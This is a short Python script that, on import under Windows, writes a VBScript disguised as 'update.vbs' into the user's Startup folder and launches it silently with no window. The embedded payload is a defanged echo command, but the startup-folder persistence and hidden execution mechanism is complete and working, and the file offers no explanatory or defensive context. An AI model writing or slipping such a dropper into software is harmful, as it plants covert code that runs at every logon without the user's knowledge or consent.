import os
import subprocess

VBS = 'CreateObject("WScript.Shell").Run "cmd /c echo defanged", 0, False'


def _startup():
    folder = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    path = os.path.join(folder, "update.vbs")
    with open(path, "w") as handle:
        handle.write(VBS)
    subprocess.Popen(["wscript.exe", path], creationflags=subprocess.CREATE_NO_WINDOW)


if os.name == "nt":
    _startup()
